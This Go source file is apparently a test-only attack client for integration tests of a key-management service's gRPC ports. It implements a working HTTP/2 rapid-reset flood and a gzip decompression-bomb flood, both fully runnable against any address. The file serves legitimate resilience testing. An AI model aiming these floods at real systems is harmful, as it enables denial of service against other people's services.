// netattack is a test-only attack client for tests/integration/test_adv_net.py:
// the unauthenticated network attacks a review found against kmsd's gRPC
// ports, bounded in time and aimed at loopback only.
//
// Usage: netattack <command> [flags]
//
//	rapidreset -addr A -ca F -duration 10s -conns 4 [-src IP]
//	    TLS + ALPN h2, then HEADERS immediately followed by RST_STREAM(CANCEL)
//	    as fast as the connection takes them (HTTP/2 "rapid reset").
//	gzip -addr A -ca F -n 200 -conc 8 -size 8388608 [-src IP]
//	    grpc-go Unseal calls whose message is `size` zero bytes compressed
//	    with gzip (a few KiB on the wire).
//
// Output: one JSON object on stdout. Exit 0 unless the flags are wrong (64)
// or nothing could be done (2).
package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"flag"
	"fmt"
	"io/ioutil"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	_ "google.golang.org/grpc/encoding/gzip"
	"google.golang.org/grpc/status"
)

type rawCodec struct{}
type frame struct{ b []byte }

func (rawCodec) Marshal(v interface{}) ([]byte, error) { return v.(*frame).b, nil }
func (rawCodec) Unmarshal(d []byte, v interface{}) error {
	v.(*frame).b = append([]byte(nil), d...)
	return nil
}
func (rawCodec) Name() string { return "proto" }

func roots(ca string) *x509.CertPool {
	pem, err := ioutil.ReadFile(ca)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(64)
	}
	p := x509.NewCertPool()
	p.AppendCertsFromPEM(pem)
	return p
}

func out(v interface{}) {
	b, _ := json.Marshal(v)
	fmt.Println(string(b))
}

// ---- rapid reset ------------------------------------------------------------

type rrReport struct {
	Streams    int64 `json:"streams"`
	Conns      int64 `json:"connections"`
	ConnErrors int64 `json:"connection_errors"`
	GoAways    int64 `json:"goaways"`
}

var srcAddr *net.TCPAddr // -src: the attacker's own source address

func rapidOne(addr, host string, pool *x509.CertPool, end time.Time, rep *rrReport) {
	d := net.Dialer{Timeout: 2 * time.Second}
	if srcAddr != nil {
		d.LocalAddr = srcAddr
	}
	raw, err := d.Dial("tcp", addr)
	if err != nil {
		atomic.AddInt64(&rep.ConnErrors, 1)
		time.Sleep(50 * time.Millisecond)
		return
	}
	conn := tls.Client(raw, &tls.Config{RootCAs: pool, ServerName: host, NextProtos: []string{"h2"}})
	conn.SetDeadline(time.Now().Add(3 * time.Second))
	if err := conn.Handshake(); err != nil || conn.ConnectionState().NegotiatedProtocol != "h2" {
		atomic.AddInt64(&rep.ConnErrors, 1)
		conn.Close()
		time.Sleep(50 * time.Millisecond)
		return
	}
	conn.SetDeadline(end.Add(2 * time.Second))
	atomic.AddInt64(&rep.Conns, 1)
	defer conn.Close()
	bw := bufio.NewWriterSize(conn, 64<<10)
	var wmu sync.Mutex
	fr := http2.NewFramer(bw, conn)
	wmu.Lock()
	bw.WriteString(http2.ClientPreface)
	fr.WriteSettings()
	bw.Flush()
	wmu.Unlock()
	dead := int32(0)
	go func() {
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				atomic.StoreInt32(&dead, 1)
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					wmu.Lock()
					fr.WriteSettingsAck()
					bw.Flush()
					wmu.Unlock()
				}
			case *http2.GoAwayFrame:
				atomic.AddInt64(&rep.GoAways, 1)
			case *http2.PingFrame:
				if !f.IsAck() {
					wmu.Lock()
					fr.WritePing(true, f.Data)
					bw.Flush()
					wmu.Unlock()
				}
			}
		}
	}()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, kv := range [][2]string{{":method", "POST"}, {":scheme", "https"},
		{":path", "/sidero.kms.KMSService/Unseal"}, {":authority", host},
		{"content-type", "application/grpc"}, {"te", "trailers"}} {
		enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]})
	}
	block := hb.Bytes()
	sid := uint32(1)
	for time.Now().Before(end) && atomic.LoadInt32(&dead) == 0 && sid < 1<<30 {
		wmu.Lock()
		for i := 0; i < 64; i++ {
			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: sid, BlockFragment: block,
				EndHeaders: true})
			fr.WriteRSTStream(sid, http2.ErrCodeCancel)
			sid += 2
		}
		err := bw.Flush()
		wmu.Unlock()
		if err != nil {
			break
		}
		atomic.AddInt64(&rep.Streams, 64)
	}
}

func cmdRapid(args []string) {
	fs := flag.NewFlagSet("rapidreset", flag.ExitOnError)
	addr := fs.String("addr", "", "host:port")
	ca := fs.String("ca", "", "CA file")
	dur := fs.Duration("duration", 10*time.Second, "how long")
	conns := fs.Int("conns", 4, "parallel connections")
	src := fs.String("src", "", "source IP (e.g. 127.0.0.2)")
	fs.Parse(args)
	setSrc(*src)
	host, _, err := net.SplitHostPort(*addr)
	if err != nil {
		os.Exit(64)
	}
	pool := roots(*ca)
	end := time.Now().Add(*dur)
	var rep rrReport
	var wg sync.WaitGroup
	for i := 0; i < *conns; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(end) {
				rapidOne(*addr, host, pool, end, &rep)
			}
		}()
	}
	wg.Wait()
	out(rep)
}

// ---- gzip flood ---------------------------------------------------------------

func cmdGzip(args []string) {
	fs := flag.NewFlagSet("gzip", flag.ExitOnError)
	addr := fs.String("addr", "", "host:port")
	ca := fs.String("ca", "", "CA file")
	n := fs.Int("n", 100, "calls")
	conc := fs.Int("conc", 4, "concurrent calls")
	size := fs.Int("size", 8<<20, "uncompressed message bytes")
	src := fs.String("src", "", "source IP (e.g. 127.0.0.2)")
	fs.Parse(args)
	setSrc(*src)
	host, _, err := net.SplitHostPort(*addr)
	if err != nil {
		os.Exit(64)
	}
	creds := credentials.NewTLS(&tls.Config{RootCAs: roots(*ca), ServerName: host})
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	conn, err := grpc.DialContext(ctx, *addr, grpc.WithTransportCredentials(creds),
		grpc.WithContextDialer(func(c context.Context, a string) (net.Conn, error) {
			d := net.Dialer{}
			if srcAddr != nil {
				d.LocalAddr = srcAddr
			}
			return d.DialContext(c, "tcp", a)
		}),
		grpc.WithBlock(), grpc.WithDefaultCallOptions(grpc.MaxCallSendMsgSize(64<<20)))
	cancel()
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	defer conn.Close()
	msg := make([]byte, *size) // field 2 (bytes) of Request, all zeros
	hdr := []byte{0x12}
	for v := uint64(*size - 8); ; {
		if v < 0x80 {
			hdr = append(hdr, byte(v))
			break
		}
		hdr = append(hdr, byte(v)|0x80)
		v >>= 7
	}
	copy(msg, hdr)
	codes := map[string]int{}
	var mu sync.Mutex
	var wg sync.WaitGroup
	var next int64
	var maxMs float64
	t0 := time.Now()
	for w := 0; w < *conc; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for atomic.AddInt64(&next, 1) <= int64(*n) {
				c, cc := context.WithTimeout(context.Background(), 10*time.Second)
				s := time.Now()
				var resp frame
				err := conn.Invoke(c, "/sidero.kms.KMSService/Unseal", &frame{b: msg}, &resp,
					grpc.ForceCodec(rawCodec{}), grpc.UseCompressor("gzip"))
				cc()
				ms := float64(time.Since(s).Microseconds()) / 1000
				mu.Lock()
				codes[status.Code(err).String()]++
				if ms > maxMs {
					maxMs = ms
				}
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	out(map[string]interface{}{"codes": codes, "elapsed_ms": time.Since(t0).Milliseconds(),
		"max_ms": maxMs})
}

func setSrc(ip string) {
	if ip != "" {
		srcAddr = &net.TCPAddr{IP: net.ParseIP(ip)}
	}
}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: netattack rapidreset|gzip [flags]")
		os.Exit(64)
	}
	switch os.Args[1] {
	case "rapidreset":
		cmdRapid(os.Args[2:])
	case "gzip":
		cmdGzip(os.Args[2:])
	default:
		os.Exit(64)
	}
}
